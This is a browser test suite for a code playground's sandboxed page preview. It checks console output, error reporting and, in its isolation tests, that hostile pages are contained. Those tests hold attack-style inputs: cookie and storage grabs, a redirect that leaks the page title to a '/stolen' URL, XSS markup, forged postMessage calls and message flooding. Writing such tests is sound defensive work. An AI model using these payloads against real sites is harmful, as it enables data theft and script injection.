/** Pages under preview, in real Chromium: what is shown, what comes back, and what the isolation refuses. */
import type { Browser, Frame, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { expectNoAxeViolations } from "../support/browser/accessibility.ts";
import { launchBrowser } from "../support/browser/chromium.ts";
import { write } from "../support/browser/editor.ts";
import { openSignedIn, screenshot, type WatchedPage } from "../support/browser/page.ts";
import { ProductClient } from "../support/product/server-process.ts";

const product = new ProductClient(inject("product"));
let browser: Browser;

beforeAll(async () => {
  browser = await launchBrowser();
});

afterAll(() => browser?.close());

/** The playground with these files of a page in its editor. */
async function pageEditor(files: Record<string, string>): Promise<WatchedPage> {
  const watched = await openSignedIn(browser, product);
  const { page } = watched;
  await page.goto("/playground");
  await page.selectOption("[data-language]", "html");
  for (const [name, text] of Object.entries(files)) {
    await page.click(`[data-file='${name}']`);
    await write(page, text);
  }
  return watched;
}

const script = (text: string) => pageEditor({ "script.js": text });

async function show(page: Page): Promise<Frame> {
  await page.click("[data-playground=run]");
  const element = await page.waitForSelector(".preview-frame");
  const frame = (await element.contentFrame())!;
  await frame.waitForURL(/\/previews\//, { waitUntil: "commit" });
  return frame;
}

const said = (page: Page) => page.innerText(".preview-console [role=log]");

describe("a preview", () => {
  it("shows the page with its own files, and its console with places that lead into the editor", async () => {
    const { page, assertClean, close } = await script(`import { twice } from "./lib/twice.js";
document.querySelector("#count").addEventListener("click", (event) => {
  event.target.textContent = "Twice " + twice(21);
  console.log("values %s", 1, { a: [1, 2], b: new Map([["k", true]]) });
  console.info("info"); console.warn("careful"); console.error("bad");
  console.table([{ name: "Ada", year: 1815 }]);
  console.log(event.target);
});`);
    await page.click("[data-file-action=add]");
    await page.fill("#file-dialog input[name=name]", "lib/twice.js");
    await page.keyboard.press("Enter");
    await write(page, "export const twice = (n) => 2 * n;");
    const frame = await show(page);
    await expect.poll(() => frame.evaluate(() => getComputedStyle(document.body).maxWidth)).toBe("640px");
    expect(await frame.evaluate(() => document.compatMode)).toBe("CSS1Compat");
    await frame.click("#count");
    expect(await frame.innerText("#count")).toBe("Twice 42");
    await expect.poll(() => said(page)).toContain('<button id="count">Twice 42</button>');
    const words = await said(page);
    for (const line of ["values 1 { a: [ 1, 2 ], b: Map(1) { 'k' => true } }", "│ 0       │ 'Ada' │ 1815 │"]) {
      expect(words).toContain(line);
    }
    for (const level of ["info", "warn", "error"]) {
      expect(await page.locator(`.preview-console [data-level=${level}]`).count()).toBe(1);
    }
    await page.click(".ln-place:has-text('script.js:4')");
    expect(await page.getAttribute("[data-file='script.js']", "aria-selected")).toBe("true");
    await page.click("[data-preview-width=phone]");
    await expect.poll(() => frame.evaluate(() => innerWidth)).toBe(375);
    assertClean([/careful|^bad/]);
    await close();
  });

  it("shows the example of a page, which draws and answers", async () => {
    const { page, assertClean, close } = await openSignedIn(browser, product);
    await page.goto("/playground?example=fireflies");
    const frame = await show(page);
    await expect.poll(() => said(page)).toContain("140 fireflies, each with a rhythm of its own");
    await frame.click("#startle");
    await expect.poll(() => said(page)).toContain("140 of 140 startled");
    assertClean();
    await close();
  });

  it("tells uncaught errors and rejections with their place, and files that are missing", async () => {
    const { page, close } = await pageEditor({
      "index.html": `<!doctype html>
<title>Faults</title>
<script>
  function broken() { null.x; }
  broken();
</script>
<script src="script.js"></script>
<img src="gone.png" alt="">`,
      "script.js": `Promise.reject(new RangeError("too far"));\nundefinedName();`,
    });
    await show(page);
    await expect.poll(() => said(page)).toContain("gone.png");
    const words = await said(page);
    expect(words).toMatch(/Uncaught TypeError: Cannot read properties of null[\s\S]*at broken \(index\.html:4:\d+\)/);
    expect(words).toMatch(/Uncaught ReferenceError: undefinedName is not defined\s+at script\.js:2:1/);
    await expect.poll(() => said(page)).toMatch(/Unhandled rejection: RangeError: too far\s+at script\.js:1:16/);
    expect(await page.locator(".ln-place:text-is('index.html:4')").count()).toBe(1);
    await close();
  });

  it("stops, reloads, opens in a tab of its own and makes room for a run", async () => {
    const { page, context, assertClean, close } = await script('console.log("started");');
    const first = await show(page);
    await expect.poll(() => said(page)).toContain("started");
    await page.click("[data-playground=stop]");
    expect(await page.locator("iframe").count()).toBe(0);
    expect(first.isDetached()).toBe(true);
    expect(await page.isDisabled("[data-playground=stop]")).toBe(true);
    await page.click("[data-preview-reload]");
    await expect.poll(() => said(page)).toContain("started");
    const opened = context.waitForEvent("page");
    await page.click("text=Open in full");
    const tab = await opened;
    await tab.waitForLoadState("load");
    expect(new URL(tab.url()).pathname).toMatch(/^\/playground\/previews\//);
    expect(await tab.evaluate(() => window.opener)).toBeNull();
    expect(await tab.frameLocator(".preview-frame").locator("h1").innerText()).toBe("Hello from the yard");
    await expectNoAxeViolations(tab);
    await page.selectOption("[data-language]", "javascript");
    await page.click("[data-playground=run]");
    await page.waitForSelector("#run-outcome[data-run-state=succeeded]");
    expect(await page.locator("iframe").count()).toBe(0);
    assertClean();
    await close();
  });

  it("is kept from hanging the console by its own process, and ends with Stop", async () => {
    const { page, close } = await script(
      'setTimeout(() => { console.log("soon"); setTimeout(() => { for (;;); }, 200); });',
    );
    await show(page);
    await expect.poll(() => said(page)).toContain("soon");
    await page.waitForTimeout(500);
    // Whatever needs the console's own thread works on.
    await page.click("[data-file='style.css']");
    expect(await page.getAttribute("[data-file='style.css']", "aria-selected")).toBe("true");
    await page.click("[data-playground=stop]");
    expect(await page.locator("iframe").count()).toBe(0);
    await close();
  });

  it("has no axe findings and no overflow, light, dark and on a phone", async () => {
    const { page, close } = await script('console.warn("careful"); console.error(new Error("bad"));');
    await show(page);
    await expect.poll(() => said(page)).toContain("bad");
    for (const { name, colorScheme, width } of [
      { name: "light", colorScheme: "light", width: 1280 },
      { name: "dark", colorScheme: "dark", width: 1280 },
      { name: "phone", colorScheme: "dark", width: 360 },
    ] as const) {
      await page.emulateMedia({ colorScheme });
      await page.setViewportSize({ width, height: 800 });
      await expectNoAxeViolations(page);
      const overflow = () => document.documentElement.scrollWidth - document.documentElement.clientWidth;
      expect(await page.evaluate(overflow), name).toBeLessThanOrEqual(0);
      await screenshot(page, `preview-${name}`);
    }
    await close();
  });
});

describe("the isolation", () => {
  it("leaves a page no cookie, storage, console, network, window or form", async () => {
    const { page, context, faults, close } = await script(`
const tell = (name, value) => console.log(name + "=" + value + ";");
const attempt = (name, act) => { try { tell(name, act()); } catch (error) { tell(name, error.name); } };
tell("origin", self.origin);
attempt("cookie", () => document.cookie);
attempt("localStorage", () => localStorage.length);
attempt("sessionStorage", () => sessionStorage.length);
attempt("indexedDB", () => { indexedDB.open("x").onerror = () => {}; return "opened"; });
attempt("parent", () => parent.document.title);
attempt("top", () => { top.location.href = "https://example.invalid/"; return "navigated"; });
attempt("popup", () => open("https://example.invalid/"));
attempt("rtc", () => typeof RTCPeerConnection);
attempt("socket", () => { new WebSocket("ws://" + location.host + "/x"); return "tried"; });
fetch("/api/runs").then(() => tell("fetch", "answered"), (error) => tell("fetch", error.name));
fetch("style.css").then(() => tell("own", "answered"), (error) => tell("own", error.name));
navigator.sendBeacon && attempt("beacon", () => navigator.sendBeacon("/logout", "x"));
const form = Object.assign(document.createElement("form"), { action: "/logout", method: "post" });
form.addEventListener("submit", () => tell("submit", "seen"));
document.body.append(form);
form.requestSubmit();
const frame = Object.assign(document.createElement("iframe"), { src: "/settings" });
document.body.append(frame);
document.body.append(Object.assign(new Image(), { src: "https://example.invalid/pixel.png" }));
import("/assets/console.js").catch((error) => tell("import", error.name));
`);
    await show(page);
    for (const expected of [
      "origin=null;",
      "cookie=SecurityError;",
      "localStorage=SecurityError;",
      "sessionStorage=SecurityError;",
      "indexedDB=SecurityError;",
      "parent=SecurityError;",
      "top=SecurityError;",
      "popup=null;",
      "rtc=undefined;",
      "fetch=TypeError;",
      "submit=seen;",
      "own=TypeError;",
      "import=TypeError;",
      // What the page did not do itself is told by the browser, whenever it comes to it.
      "A preview sends no forms",
    ]) {
      await expect.poll(() => said(page)).toContain(expected);
    }
    expect(await said(page)).toMatch(/A preview has no network\. Refused: http:\/\/127\.0\.0\.1:\d+\/api\/runs/);
    // Still signed in, still on the page, no other page opened, and nothing left for a foreign host.
    expect(new URL(page.url()).pathname).toBe("/playground");
    expect(context.pages()).toHaveLength(1);
    await page.goto("/runs");
    expect(new URL(page.url()).pathname).toBe("/runs");
    expect(faults.filter(({ kind }) => kind === "page-error")).toEqual([]);
    await close();
  });

  it("keeps a page from leading its frame elsewhere, in the console and in a tab of its own", async () => {
    const away = 'setTimeout(() => { location.href = "http://127.0.0.1:9/stolen?" + document.title; }, 100);';
    const { page, context, close } = await script(away);
    const requests: string[] = [];
    context.on("request", (request) => requests.push(request.url()));
    await show(page);
    const opened = context.waitForEvent("page");
    await page.click("text=Open in full");
    const tab = await opened;
    await tab.waitForLoadState("load");
    const left = () => [...page.frames(), ...tab.frames()].filter((frame) => frame.url().startsWith("chrome-error:"));
    await expect.poll(() => left().length, { timeout: 10_000 }).toBe(2);
    expect(requests.filter((url) => url.includes("stolen") && !url.startsWith(product.url))).toEqual([]);
    expect(new URL(tab.url()).pathname).toMatch(/^\/playground\/previews\//);
    await close();
  });

  it("shows what a page says as text, whatever it says and whoever it pretends to be", async () => {
    const markup = '<img src=x onerror="document.title=1"><script>document.title=2</script>';
    const { page, assertClean, close } = await script(`
const markup = ${JSON.stringify(markup).replaceAll("</", "<\\/")};
console.log(markup);
console.log("%c" + markup, "color: red");
console.error({ [markup]: markup });
const place = { file: markup, line: 1, column: 1 };
parent.postMessage({ runyardPreview: [{ level: "log", text: markup, ...place }] }, "*");
parent.postMessage({ runyardPreview: [{ level: '"><b>', text: "wrong level" }] }, "*");
parent.postMessage({ runyardPreview: [{ level: "log", text: { toString: 1 } }, null] }, "*");
parent.postMessage({ runyardPreview: [{ level: "log", text: "last" }] }, "*");
`);
    const title = await page.title();
    await show(page);
    await expect.poll(() => said(page)).toContain("last");
    // What the page sends by itself may overtake what its console gathers.
    await expect.poll(() => page.locator(".preview-console .ln").count()).toBe(5);
    expect(await page.locator(".preview-console img, .preview-console script, .preview-console b").count()).toBe(0);
    expect(await page.title()).toBe(title);
    const places = await page.locator(".preview-console .ln-place").allInnerTexts();
    expect(places).toContain(`${markup}:1`);
    // A place in a file that is not there leads nowhere.
    await page
      .locator(".preview-console .ln-place")
      .nth(places.indexOf(`${markup}:1`))
      .click();
    assertClean([/Object|img src=x/]);
    await close();
  });

  it("hears no other window", async () => {
    const { page, assertClean, close } = await script('console.log("mine");');
    await show(page);
    await expect.poll(() => said(page)).toContain("mine");
    await page.evaluate(() => window.postMessage({ runyardPreview: [{ level: "log", text: "forged" }] }, "*"));
    await page.waitForTimeout(200);
    expect(await said(page)).not.toContain("forged");
    assertClean();
    await close();
  });

  it("bounds what is printed, and takes the frame from a page that floods", async () => {
    const { page, close } = await script(`
for (let index = 0; index < 100_000; index++) console.log("line " + index);
console.log("x".repeat(50_000));
setTimeout(() => console.log("after"), 1_200);
`);
    await show(page);
    await expect.poll(() => said(page), { timeout: 10_000 }).toContain("after");
    const words = await said(page);
    expect(words).toContain("line 499");
    expect(words).not.toContain("line 500\n");
    expect(words).toMatch(/… 99501 more messages were left out/);
    await page.click("[data-file='script.js']");
    await write(page, 'setInterval(() => { for (let i = 0; i < 500; i++) parent.postMessage("flood", "*"); }, 0);');
    await page.click("[data-playground=run]");
    await page.waitForSelector("[data-preview-status]:has-text('Stopped: the page sent more than 300')");
    expect(await page.locator("iframe").count()).toBe(0);
    await close();
  });
});
